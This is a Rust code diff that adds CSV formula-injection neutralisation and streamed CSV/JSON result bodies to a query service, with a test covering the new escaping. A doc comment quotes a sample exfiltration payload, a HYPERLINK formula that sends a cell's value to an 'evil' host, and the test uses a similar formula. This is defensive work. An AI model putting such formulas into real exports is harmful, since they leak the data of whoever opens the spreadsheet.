@@ -143,15 +143,26 @@ pub fn json_bi(query: &CompiledQuery, filters: &BTreeMap<String, String>, batche
 }
 
 /// CSV with a header of field labels; values as in `json`, quoted where
-/// needed (RFC 4180).
+/// needed (RFC 4180), text neutralised against formula injection (see
+/// [`csv_text`]).
 pub fn csv(query: &CompiledQuery, batches: &[RecordBatch]) -> String {
-    let quote = |s: &str| {
-        if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_owned() }
-    };
+    let mut out = csv_header(query);
+    for batch in batches {
+        out.push_str(&csv_rows(query, std::slice::from_ref(batch)));
+    }
+    out
+}
+
+/// The CSV header line: the columns' labels.
+pub fn csv_header(query: &CompiledQuery) -> String {
+    let header: Vec<String> = query.columns.iter().map(|c| csv_text(&c.label)).collect();
+    format!("{}\r\n", header.join(","))
+}
+
+/// The CSV lines of `batches`' rows, without a header: a download streams
+/// them a batch at a time.
+pub fn csv_rows(query: &CompiledQuery, batches: &[RecordBatch]) -> String {
     let mut out = String::new();
-    let header: Vec<String> = query.columns.iter().map(|c| quote(&c.label)).collect();
-    out.push_str(&header.join(","));
-    out.push_str("\r\n");
     for row in json_rows(query, batches) {
         let Value::Object(object) = row else { continue };
         let cells: Vec<String> = query
@@ -159,14 +170,73 @@ pub fn csv(query: &CompiledQuery, batches: &[RecordBatch]) -> String {
             .iter()
             .map(|c| match object.get(&c.name) {
                 None | Some(Value::Null) => String::new(),
-                Some(Value::String(s)) => quote(s),
-                Some(other) => quote(&other.to_string()),
+                Some(Value::String(s)) => csv_text(s),
+                // Numbers and booleans as JSON writes them: `-5` stays a
+                // number in the spreadsheet.
+                Some(other) => other.to_string(),
             })
             .collect();
         out.push_str(&cells.join(","));
         out.push_str("\r\n");
     }
     out
+}
+
+/// A text cell, safe to open in a spreadsheet. A cell starting with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, Google
+/// Sheets and LibreOffice, so a customer-controlled value such as
+/// `=HYPERLINK("https://evil/?"&A2,"Click")` would run in the spreadsheet
+/// of whoever opens the download. As OWASP recommends, such a cell gets a
+/// leading `'` (shown as text, not evaluated) and every cell with a
+/// quote, separator or line break is quoted with its quotes doubled.
+pub fn csv_text(text: &str) -> String {
+    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let cell = if formula { format!("'{text}") } else { text.to_owned() };
+    if cell.contains([',', '"', '\n', '\r']) { format!("\"{}\"", cell.replace('"', "\"\"")) } else { cell }
+}
+
+/// A result streamed as a response body in `format` (`csv` or `json`; the
+/// others are built whole): the header or opening bracket, then each
+/// batch's rows as they arrive. A failure half-way ends the body with an
+/// error, so the client sees a broken transfer, never a short file that
+/// looks complete.
+pub fn stream_body(
+    query: CompiledQuery,
+    format: ResultFormat,
+    batches: ponte_warehouse::BatchStream,
+) -> axum::body::Body {
+    use futures::StreamExt as _;
+    let query = std::sync::Arc::new(query);
+    let opening = match format {
+        ResultFormat::Csv => csv_header(&query),
+        _ => "[".to_owned(),
+    };
+    let mut first = true;
+    let rows = batches.map(move |batch| {
+        let batch = batch.inspect_err(|e| tracing::error!("a streamed result failed: {e}"))?;
+        let text = match format {
+            ResultFormat::Csv => csv_rows(&query, std::slice::from_ref(&batch)),
+            _ => {
+                let mut text = String::new();
+                for row in json_rows(&query, std::slice::from_ref(&batch)) {
+                    if !std::mem::take(&mut first) {
+                        text.push(',');
+                    }
+                    text.push_str(&row.to_string());
+                }
+                text
+            }
+        };
+        Ok::<_, ponte_warehouse::WarehouseError>(bytes::Bytes::from(text))
+    });
+    let closing = match format {
+        ResultFormat::Csv => None,
+        _ => Some(Ok(bytes::Bytes::from_static(b"]"))),
+    };
+    let body = futures::stream::once(async move { Ok(bytes::Bytes::from(opening)) })
+        .chain(rows)
+        .chain(futures::stream::iter(closing));
+    axum::body::Body::from_stream(body)
 }
 
 /// One value as Looker's unformatted JSON shows it.
@@ -317,6 +387,39 @@ mod tests {
         assert_eq!(lines[0], "f mes_month,f mes_quarter,f ativo,f nome,f total,f count");
         assert_eq!(lines[1], "2024-05,2024-Q2,Yes,\"Ana, \"\"A\"\"\",1.5,3");
         assert_eq!(lines[2], ",2024-Q2,No,,,1");
+    }
+
+    #[test]
+    fn text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not() {
+        for (text, cell) in [
+            (
+                "=HYPERLINK(\"https://x\"&A2,\"Clique aqui\")",
+                "\"'=HYPERLINK(\"\"https://x\"\"&A2,\"\"Clique aqui\"\")\"",
+            ),
+            ("+55 11 5555", "'+55 11 5555"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "\"'\r=1\""),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_text(text), cell, "{text:?}");
+        }
+        let (mut query, _) = sample();
+        query.columns.truncate(1);
+        query.columns[0] = column("f.nome", "f__nome", FieldKind::Dimension, "string");
+        let schema = Arc::new(Schema::new(vec![
+            Field::new("f__nome", DataType::Utf8, true),
+            Field::new("f__n", DataType::Int64, true),
+        ]));
+        query.columns.push(column("f.n", "f__n", FieldKind::Measure, "sum"));
+        let batch = RecordBatch::try_new(
+            schema,
+            vec![Arc::new(StringArray::from(vec!["=1+1"])), Arc::new(Int64Array::from(vec![-5]))],
+        )
+        .unwrap();
+        assert_eq!(csv(&query, &[batch]), "f nome,f n\r\n'=1+1,-5\r\n");
     }
 
     #[test]
